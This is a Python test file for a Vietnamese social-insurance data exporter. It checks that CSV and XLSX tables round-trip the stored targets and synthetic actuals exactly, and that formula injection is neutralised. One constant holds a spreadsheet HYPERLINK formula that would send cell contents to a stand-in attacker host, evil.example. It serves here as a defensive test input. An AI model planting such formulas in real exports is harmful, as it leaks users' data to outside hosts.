"""The data table: CSV and XLSX read back to the exact stored figures, each with its source.

Actuals here are synthetic, made up for the tests.
"""

from __future__ import annotations

import io

import pandas as pd
import pytest
from openpyxl import load_workbook

from bhxh_geo.actuals.current import stored_actuals
from bhxh_geo.demo import DEMO_LABEL
from bhxh_geo.paths import TARGETS_CSV
from bhxh_geo.spreadsheets import DATA_SHEET, SOURCES_SHEET
from bhxh_geo.table_export import table_bytes, table_frame
from bhxh_geo.targets import load_targets, plan_source

INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Báo cáo")'
KEY = ["unit_code", "year", "indicator"]


def synthetic_actuals(source: str = INJECTED) -> pd.DataFrame:
    """Made-up 2024 reports: full year for every unit, first half for the province only."""
    targets = load_targets()
    targets = targets[targets["year"] == 2024].reset_index(drop=True)
    full = pd.DataFrame(
        {
            "unit_code": targets["unit_code"],
            "year": 2024,
            "period": "full",
            "indicator": targets["indicator"],
            "value_pct": (targets["target_pct"] - 0.37).round(2),
            "insured": pd.array([1234] * len(targets), "Int64"),
            "labour_force": pd.array([56789] * len(targets), "Int64"),
            "source": source,
        }
    )
    half = full[full["unit_code"] == "64"].assign(
        period="h1", value_pct=5.55, source="Báo cáo 6 tháng (giả)"
    )
    return pd.concat([full, half], ignore_index=True)


def read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), dtype={"unit_code": str}, encoding="utf-8-sig")


@pytest.fixture(scope="module")
def stored_targets() -> pd.DataFrame:
    return pd.read_csv(TARGETS_CSV, dtype={"unit_code": str})


def test_csv_of_all_years_round_trips_to_the_216_stored_targets(stored_targets):
    data = table_bytes("csv")
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Vietnamese right
    header = data[3:].decode("utf-8").split("\r\n", 1)[0]
    assert header.split(",")[:7] == [
        "year",
        "unit_code",
        "unit_name",
        "official_name",
        "indicator",
        "indicator_name",
        "target_pct",
    ]
    frame = read_csv(data)
    assert len(frame) == 216
    merged = stored_targets.merge(frame, on=KEY, how="outer", validate="1:1", indicator=True)
    assert (merged["_merge"] == "both").all()
    assert (merged["target_pct_x"] == merged["target_pct_y"]).all()  # exact, not approximately
    assert (merged["target_source"] == merged["source"]).all()
    assert (merged["unit_name_x"] == merged["unit_name_y"]).all()
    assert "41.51" in data.decode("utf-8-sig")  # dot decimals
    assert "actual_pct" not in frame.columns  # nothing imported: no empty actuals columns


def test_one_year(stored_targets):
    frame = read_csv(table_bytes("csv", 2023))
    assert len(frame) == 72 and set(frame["year"]) == {2023}
    with pytest.raises(ValueError, match="2030"):
        table_frame(2030)


def test_actuals_beside_the_targets_exactly_as_stored_with_their_source():
    actuals = synthetic_actuals("Báo cáo 15/BC-TEST (giả)")
    frame = read_csv(table_bytes("csv", None, actuals))
    reported = actuals[actuals["period"] == "full"].drop(columns=["insured", "labour_force"])
    rows = frame[frame["year"] == 2024].merge(reported, on=KEY)
    assert len(rows) == 72
    assert (rows["actual_pct"] == rows["value_pct"]).all()
    assert (rows["gap_pp"] == (rows["value_pct"] - rows["target_pct"]).round(2)).all()
    assert (rows["insured"] == 1234).all() and (rows["labour_force"] == 56789).all()
    assert set(rows["actual_source"]) == {"Báo cáo 15/BC-TEST (giả)"}
    assert frame.loc[frame["year"] != 2024, "actual_pct"].isna().all()
    half = frame[frame["actual_pct_h1"].notna()]
    assert (
        len(half) == 4
        and set(half["unit_code"]) == {"64"}
        and (half["actual_pct_h1"] == 5.55).all()
    )
    assert set(half["actual_source_h1"]) == {"Báo cáo 6 tháng (giả)"}


def test_xlsx_has_the_figures_and_a_sheet_of_sources_and_notes():
    book = load_workbook(io.BytesIO(table_bytes("xlsx", 2025)))
    assert book.sheetnames == [DATA_SHEET, SOURCES_SHEET]
    rows = list(book[DATA_SHEET].values)
    header, body = rows[0], rows[1:]
    assert len(body) == 72
    target = header.index("target_pct")
    stored = (
        load_targets().query("year == 2025").set_index(["unit_code", "indicator"])["target_pct"]
    )
    for row in body:
        assert row[target] == stored[(row[1], row[4])]
    about = [row[0] for row in book[SOURCES_SHEET].values if row[0]]
    assert plan_source() in about
    assert any("cấp huyện đã chấm dứt" in line for line in about)
    assert any("district level abolished" in line for line in about)


def test_injected_text_is_neutralised_in_xlsx_and_csv():
    data = table_bytes("xlsx", None, synthetic_actuals())
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # no formula anywhere
    sources = [
        cell.value for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert sources and all(value == "'" + INJECTED for value in sources)
    assert {cell.parent.title for cell in cells if cell.value == "'" + INJECTED} == {
        DATA_SHEET,
        SOURCES_SHEET,
    }
    csv_text = table_bytes("csv", None, synthetic_actuals()).decode("utf-8-sig")
    assert ",=HYPERLINK" not in csv_text and "\"'=HYPERLINK(" in csv_text


def test_demo_actuals_put_the_demo_label_first():
    data = table_bytes("csv", 2024, synthetic_actuals(DEMO_LABEL))
    assert data.decode("utf-8-sig").split("\r\n", 1)[0] == DEMO_LABEL
    book = load_workbook(io.BytesIO(table_bytes("xlsx", 2024, synthetic_actuals(DEMO_LABEL))))
    assert book[DATA_SHEET]["A1"].value == DEMO_LABEL


def test_no_database_means_no_actuals_and_no_file_created(tmp_path):
    path = tmp_path / "none.sqlite3"
    assert stored_actuals(path) is None and not path.exists()


def test_unknown_format_is_refused():
    with pytest.raises(ValueError, match="'ods'"):
        table_bytes("ods")
